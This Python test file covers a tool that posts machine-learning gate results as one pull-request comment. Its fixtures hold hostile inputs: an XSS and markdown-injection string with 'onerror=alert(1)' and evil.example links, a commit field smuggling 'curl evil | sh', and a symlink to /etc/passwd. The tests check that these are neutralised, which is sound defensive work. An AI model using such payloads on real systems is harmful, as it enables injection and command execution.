"""The one comment of a pull request: whose data it shows, and where."""

from __future__ import annotations

import json
import os
import re
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from mlops.cli.main import app
from mlops.config.project import Project
from mlops.github.comment import MARKER, MOST_BYTES, MOST_FILES
from mlops.results.data import Expectation, Validation
from mlops.results.evaluation import Evaluation, Metric
from mlops.results.runs import Record
from mlops.results.verdict import Comparison, Verdict
from mlops.runlog.journal import append

from .conftest import git
from .github_world import GitHub, github_fixture  # noqa: F401

HEAD = "a" * 40
RUN: dict[str, Any] = {
    "id": 9,
    "run_attempt": 1,
    "head_sha": HEAD,
    "head_branch": "better",
    "head_repository": {"owner": {"login": "stranger"}},
    "run_started_at": "2026-11-23T12:00:00Z",
    "html_url": "https://github.com/acme/demo/actions/runs/9",
    "actor": {"login": "stranger"},
    "conclusion": "success",
}


def pull(
    number: int, sha: str = HEAD, head: str = "stranger:better", state: str = "open"
) -> Any:
    return {"number": number, "state": state, "head": {"sha": sha, "label": head}}


def results(folder: Path, project: Project, message: str = "0 of 600 rows") -> Path:
    """Write what a run of the model `churn` uploads."""
    build = folder / "build" / "churn"
    build.mkdir(parents=True)
    written = {"limits": "Not for decisions about people.", "risk_reason": "A test."}
    spec = project.model("churn").model_copy(update=written)
    (build / "spec.json").write_text(spec.model_dump_json())
    expectation = Expectation(
        name="not null", column="tenure", ok=False, message=message
    )
    Validation(ok=True, expectations=(expectation,)).save(build)
    metric = Metric(name="roc_auc", value=0.9, low=0.8, high=0.95)
    Evaluation(ok=True, rows=100, metrics=(metric,)).save(build)
    Verdict(decision="promote", rule="first version", reasons=(message,)).save(build)
    Record(
        id="mine",
        model="other",
        started="1999-01-01T00:00:00+00:00",
        seconds=3,
        stages={"train": "ran"},
        outcome="promote",
        actor="@root",
        pull_request=1,
        commit="b" * 40,
    ).save(build)
    return build


class World:
    """A repository, its GitHub, and what is done there."""

    def __init__(self, project: Project, github: GitHub, folder: Path) -> None:
        self.project, self.github, self.folder = project, github, folder

    def comment(self, **run: Any) -> Any:
        event = self.folder / "event.json"
        event.write_text(json.dumps({"workflow_run": {**RUN, **run}}))
        os.environ["GITHUB_EVENT_PATH"] = str(event)
        command = ["comment", "--report", str(self.folder), "--json"]
        done = CliRunner().invoke(app, command)
        assert done.exit_code == 0, done.output
        return json.loads(done.stdout)

    @property
    def bodies(self) -> list[str]:
        return [c["body"] for c in self.github.comments.values()]


@pytest.fixture(name="world")
def world_fixture(
    make_project: Callable[..., Project],
    github: GitHub,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> World:
    project = make_project()
    monkeypatch.chdir(project.root)
    monkeypatch.setenv("GITHUB_EVENT_PATH", "")
    github.pulls = [pull(5)]
    return World(project, github, tmp_path / "artifacts")


def test_the_verdict_is_shown_and_the_run_is_journaled(world: World) -> None:
    results(world.folder, world.project)
    assert world.comment()["pull_request"] == 5
    (body,) = world.bodies
    assert body.startswith(MARKER) and "churn" in body and "0.900" in body
    assert RUN["html_url"] in body
    files = git(world.project.root, "ls-tree", "-r", "--name-only", "journal").split(
        "\n"
    )
    (path,) = [f for f in files if f.startswith("runs/churn/2026/11/")]
    record = json.loads(git(world.project.root, "show", f"journal:{path}"))
    said = {
        k: record[k] for k in ("model", "actor", "pull_request", "commit", "run_url")
    }
    assert said == {
        "model": "churn",
        "actor": "@stranger",
        "pull_request": 5,
        "commit": HEAD,
        "run_url": RUN["html_url"],
    }


def test_it_is_edited_in_place(world: World) -> None:
    build = results(world.folder, world.project)
    world.comment()
    Verdict(decision="reject", rule="superiority", champion="v1.0.0").save(build)
    world.comment(id=10)
    assert len(world.bodies) == 1 and "v1.0.0" in world.bodies[0]


def test_a_person_who_writes_the_marker_is_not_us(world: World) -> None:
    results(world.folder, world.project)
    world.github.kind = "User"
    world.github.new(
        world.github.comments,
        "issues/comments",
        on=5,
        user=world.github.user(),
        body=f"{MARKER}\nlooks good to me",
    )
    world.github.kind = "Bot"
    world.comment()
    assert len(world.bodies) == 2 and world.bodies[0].endswith("looks good to me")


def test_it_lands_on_the_pull_request_of_the_commit(world: World) -> None:
    results(world.folder, world.project)
    record = world.folder / "build" / "churn" / "record.json"
    assert (
        json.loads(record.read_text())["pull_request"] == 1
    )  # what the artifact claims
    world.github.pulls = [
        pull(1, head="victim:better"),
        pull(3, sha="c" * 40),
        pull(4, state="closed"),
        pull(6),
    ]
    world.comment()
    assert [c["on"] for c in world.github.comments.values()] == [6]


@pytest.mark.parametrize("run", [{"head_sha": "d" * 40}, {"head_repository": None}])
def test_a_head_that_has_moved_on_gets_no_comment(
    world: World, run: dict[str, Any]
) -> None:
    results(world.folder, world.project)
    assert world.comment(**run) == {"comment": None}
    assert not world.bodies


@pytest.mark.parametrize(
    "conclusion", ["failure", "timed_out", "startup_failure", "stale"]
)
def test_a_red_run_is_red_before_all_else_whatever_its_artifacts_say(
    world: World, conclusion: str
) -> None:
    results(
        world.folder, world.project
    )  # the gate would promote; the code may not even parse
    world.comment(conclusion=conclusion)
    (body,) = world.bodies
    first, second = re.findall(r"^## .*$", body, re.MULTILINE)
    assert first == "## ❌ The checks are red: the run says what failed"
    assert second.startswith("## ✅ churn: ")
    world.comment(conclusion="success")
    assert "are red" not in world.bodies[0]


HOSTILE = (
    "<img src=x onerror=alert(1)> @everyone #1 ![x](http://evil.example/a.png) "
    "[click](javascript:alert(1)) | cell | `code` <!-- mlops: report --> "
    "https://evil.example "
    "acme/demo#2 </details>\n\n# heading\n- [ ] task"
)


def test_text_of_a_stranger_only_shows(world: World) -> None:
    results(world.folder, world.project, HOSTILE)
    world.comment(conclusion="failure")
    body = world.bodies[0].removeprefix(MARKER)
    for syntax in (
        "<img",
        "@everyone",
        "![",
        "](java",
        "<!--",
        "https://evil",
        "\n# heading",
    ):
        assert syntax not in body
    assert "evil" in body and body.count("</details>") == body.count("<details>")


def test_a_commit_or_name_of_a_stranger_is_no_command(world: World) -> None:
    build = results(world.folder, world.project)
    record = json.loads((build / "record.json").read_text())
    (build / "record.json").write_text(
        json.dumps({**record, "commit": "x; curl evil | sh"})
    )
    world.comment()
    assert "curl" not in world.bodies[0] and f"git checkout {HEAD}" in world.bodies[0]


def oversized(build: Path) -> None:
    (build / "verdict.json").write_text('{"x": "' + "a" * MOST_BYTES + '"}')


def of_another_shape(build: Path) -> None:
    (build / "verdict.json").write_text('{"decision": "@everyone <b>yes</b>"}')


def deep(build: Path) -> None:
    (build / "evaluation.json").write_text("[" * 100_000 + "]" * 100_000)


def no_text(build: Path) -> None:
    (build / "validation.json").write_bytes(b"\xff\xfe\x00")


def a_huge_number(build: Path) -> None:
    (build / "verdict.json").write_text(
        '{"decision": "promote", "rows": ' + "9" * 10_000 + "}"
    )


def a_link(build: Path) -> None:
    (build / "verdict.json").unlink()
    (build / "verdict.json").symlink_to("/etc/passwd")


def a_folder(build: Path) -> None:
    (build / "record.json").unlink()
    (build / "record.json").mkdir()


def no_specification(build: Path) -> None:
    (build / "spec.json").unlink()


def another_key(build: Path) -> None:
    spec = json.loads((build / "spec.json").read_text())
    (build / "spec.json").write_text(json.dumps({**spec, "surprise": 1}))


def a_contradiction(build: Path) -> None:
    spec = json.loads((build / "spec.json").read_text())
    spec["features"][spec["data"]["target"]] = "category"
    (build / "spec.json").write_text(json.dumps(spec))


def an_odd_name(build: Path) -> None:
    build.rename(build.parent / "@everyone <b>")


def nothing_measured(build: Path) -> None:
    Evaluation(ok=True, rows=1, metrics=()).save(build)
    (build / "verdict.json").unlink()


@pytest.mark.parametrize(
    "spoil",
    [
        oversized,
        of_another_shape,
        deep,
        no_text,
        a_huge_number,
        a_link,
        a_folder,
        no_specification,
        another_key,
        a_contradiction,
        an_odd_name,
        nothing_measured,
    ],
)
def test_a_spoiled_artifact_is_named_and_not_quoted(
    world: World, spoil: Callable[[Path], None]
) -> None:
    spoil(results(world.folder, world.project))
    world.comment(conclusion="failure")
    (body,) = world.bodies
    assert "Could not be shown: " in body and len(body) < 1000
    assert "@everyone" not in body and "<b>" not in body and "root:" not in body
    with pytest.raises(AssertionError):  # what cannot be read is not kept either
        git_journal(world)


def git_journal(world: World) -> None:
    assert git(world.project.root, "branch", "--list", "journal")


def test_a_folder_that_is_a_link_is_not_followed(world: World, tmp_path: Path) -> None:
    results(tmp_path / "elsewhere", world.project)
    world.folder.mkdir()
    (world.folder / "build").symlink_to(tmp_path / "elsewhere" / "build")
    world.comment(conclusion="failure")
    assert "Could not be shown: build: not a folder" in world.bodies[0]
    assert "churn" not in world.bodies[0]


def test_one_spoiled_model_does_not_hide_another(world: World) -> None:
    results(world.folder, world.project)
    (world.folder / "build" / "price").mkdir()
    world.comment(conclusion="failure")
    assert "churn" in world.bodies[0] and "price" in world.bodies[0]


def test_many_models_still_fit_and_none_is_left_out(world: World) -> None:
    build = results(world.folder, world.project, "x" * 2000)
    for at in range(299):
        other = build.parent / f"model{at}"
        other.mkdir()
        for file in ("spec", "record", "validation", "evaluation", "verdict"):
            name = f"{file}.json"
            (other / name).write_bytes((build / name).read_bytes())
    world.comment()
    (body,) = world.bodies
    assert len(body) < 65_536
    names = {"churn", *(f"model{at}" for at in range(299))}
    assert {name for name in names if name not in body} == set()
    files = git(world.project.root, "ls-tree", "-r", "--name-only", "journal")
    assert {path.split("/")[1] for path in files.split("\n")} == names
    assert git(world.project.root, "rev-list", "--count", "journal") == "1"


def test_more_models_than_are_read_are_said(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("mlops.github.comment.MOST_MODELS", 2)
    build = results(world.folder, world.project)
    for at in range(3):
        shutil.copytree(build, build.parent / f"model{at}")
    world.comment()
    assert "there are more than 2 models" in world.bodies[0]


def test_docs_alone_say_nothing(world: World) -> None:
    world.folder.mkdir()
    assert world.comment()["comment"] is None
    assert not world.bodies


def test_a_comment_that_is_there_follows_when_nothing_is_trained_any_more(
    world: World,
) -> None:
    build = results(world.folder, world.project)
    world.comment()
    for path in build.iterdir():
        path.unlink()
    build.rmdir()
    world.comment()
    assert len(world.bodies) == 1 and "trains no model" in world.bodies[0]


def test_a_run_that_failed_before_there_was_a_report(world: World) -> None:
    world.folder.mkdir()
    world.comment(conclusion="failure")
    assert (
        "There is no report" in world.bodies[0] and RUN["html_url"] in world.bodies[0]
    )


def changes(*names: str, **facts: str) -> list[Any]:
    return [{"filename": name, "status": "modified", **facts} for name in names]


JUDGES = "This pull request changes code that judges models."


@pytest.mark.parametrize(
    "name",
    [
        ".github/workflows/release.yml",
        ".github/CODEOWNERS",
        "vendor/mlops/src/mlops/gate/rules.py",
        "requirements/train.txt",
        "project.yaml",
        "pyproject.toml",
        "CODEOWNERS",
        "docs/CODEOWNERS",
    ],
)
def test_a_change_of_what_judges_models_is_named_first(world: World, name: str) -> None:
    results(world.folder, world.project)
    world.github.files = changes("models/churn/features.py", name)
    world.comment(conclusion="failure")
    (body,) = world.bodies
    first, *_ = body.removeprefix(f"{MARKER}\n").split("\n\n")
    assert first.startswith(f"> [!WARNING]\n> **{JUDGES}**")
    assert "A code owner must approve" in first
    assert first.endswith(f"\n> - {name}")
    assert "features.py" not in first


def test_a_change_of_a_model_alone_carries_no_warning(world: World) -> None:
    results(world.folder, world.project)
    world.github.files = changes("models/churn/features.py", "tests/vendor/notes.md")
    world.comment()
    assert "WARNING" not in world.bodies[0]


def test_a_file_that_is_moved_away_is_named_too(world: World) -> None:
    results(world.folder, world.project)
    old = ".github/workflows/security.yml"
    world.github.files = changes("attic/old.yml", previous_filename=old)
    world.comment()
    assert f"> - {old}\n" in world.bodies[0] and "attic" not in world.bodies[0]


def test_a_change_of_the_engine_that_trains_nothing_gets_a_comment(
    world: World,
) -> None:
    world.folder.mkdir()
    world.github.files = changes(".github/workflows/release.yml")
    assert world.comment()["comment"]
    assert JUDGES in world.bodies[0]


def test_every_page_of_the_files_is_read(world: World) -> None:
    results(world.folder, world.project)
    many = [f"models/churn/data/{at}.csv" for at in range(250)]
    world.github.files = changes(*many, *(f"vendor/{at}.py" for at in range(40)))
    world.comment()
    assert "> - vendor/0.py\n" in world.bodies[0]
    assert "> - and 20 more\n" in world.bodies[0]


def test_more_files_than_github_lists_are_not_taken_for_harmless(world: World) -> None:
    results(world.folder, world.project)
    world.github.files = changes(*(f"models/churn/{at}" for at in range(MOST_FILES)))
    world.comment()
    assert "> **It changes more files than GitHub lists:**" in world.bodies[0]
    assert JUDGES not in world.bodies[0]


def test_a_hostile_name_of_a_file_only_shows(world: World) -> None:
    results(world.folder, world.project)
    world.github.files = changes(f"vendor/{HOSTILE}", "vendor/a\n\n# heading\n> <b>")
    world.comment()
    body = world.bodies[0].removeprefix(MARKER)
    warned = body.strip().split("\n\n")[0]
    assert all(line.startswith("> ") or line == ">" for line in warned.split("\n"))
    for syntax in ("<img", "@everyone", "![", "](java", "<!--", "https://evil", "<b>"):
        assert syntax not in body
    assert "heading" in warned and "evil" in warned


def test_the_artifact_cannot_say_which_files_are_changed(world: World) -> None:
    """GitHub is asked; nothing is posted where it does not answer."""
    results(world.folder, world.project)
    (world.folder / "files.json").write_text("[]")
    world.github.fail(r"GET pulls/5/files", 500, times=9)
    event = world.folder / "event.json"
    event.write_text(json.dumps({"workflow_run": RUN}))
    os.environ["GITHUB_EVENT_PATH"] = str(event)
    done = CliRunner().invoke(app, ["comment", "--report", str(world.folder)])
    assert done.exit_code == 3
    assert "list the files of #5" in done.stderr
    assert not world.bodies


def test_a_change_of_the_rules_is_answered_with_what_it_would_have_changed(
    world: World,
) -> None:
    """The rules before are those of the branch that the job has checked out."""
    build = results(world.folder, world.project)
    world.comment()
    (body,) = world.bodies
    assert "the new rules on the past" not in body
    compared = Comparison(
        metric="roc_auc",
        champion=0.8,
        challenger=0.799,
        difference=-0.001,
        low=-0.008,
        high=0.006,
        confidence=0.9,
        smallest_detectable=0.02,
        method="DeLong",
    )
    verdict = Verdict(
        decision="promote", rule="non-inferiority", comparison=compared, margin=0.01
    )
    past = Record(
        id="past",
        model="churn",
        started="2026-11-01T00:00:00+00:00",
        seconds=1,
        stages={},
        outcome="promote",
        pull_request=3,
        verdict=verdict,
    )
    append(world.project, past)
    spec = world.project.model("churn")
    gate = spec.gate.model_copy(update={"rule": "non-inferiority", "margin": 0.002})
    stricter = spec.model_copy(update={"gate": gate})
    (build / "spec.json").write_text(stricter.model_dump_json())
    world.comment(id=10)
    (body,) = world.bodies
    assert "churn: the new rules on the past" in body
    assert "With the new gate.rule, gate.margin, 1 of 1 past decision " in body
    assert "past (#&#8203;3) | 2026-11-01 00:00 | promote | inconclusive" in body
    assert "| gate.margin |" in body


def test_on_a_laptop_the_number_is_given(world: World) -> None:
    results(world.folder, world.project)
    command = ["comment", "--report", str(world.folder), "--pull-request", "8"]
    done = CliRunner().invoke(app, [*command, "--run-url", "https://example.com/run"])
    assert done.exit_code == 0, done.output
    assert [c["on"] for c in world.github.comments.values()] == [8]
